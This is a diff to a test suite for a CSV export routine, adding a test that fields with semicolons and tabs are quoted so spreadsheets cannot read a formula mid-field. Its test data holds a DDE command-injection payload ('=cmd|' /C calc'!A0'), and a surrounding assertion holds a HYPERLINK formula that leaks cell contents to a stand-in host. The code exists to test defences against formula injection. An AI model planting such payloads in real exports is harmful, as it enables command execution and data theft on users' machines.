@@ -35,6 +35,12 @@ describe('CSV', () => {
     expect(csv).toContain(`d,0,"'=HYPERLINK(""http://example.com/?leak=""&A1,""click"")"\r\n`);
   });
 
+  it('quotes semicolons and tabs, so a spreadsheet splitting on ";" never finds a formula mid-field', () => {
+    const csv = toCsv({ name: 'notes', title: 'Notes', columns: ['Text'], rows: [["ok;=cmd|' /C calc'!A0"], ['a\t=b']] });
+    expect(csv).toContain(`"ok;=cmd|' /C calc'!A0"\r\n`);
+    expect(csv).toContain('"a\t=b"\r\n');
+  });
+
   it('reads back to the same cells, neutralised, with one record per row', async () => {
     const tables = buildTables(await seededBundle(), false);
     for (const table of tables) {
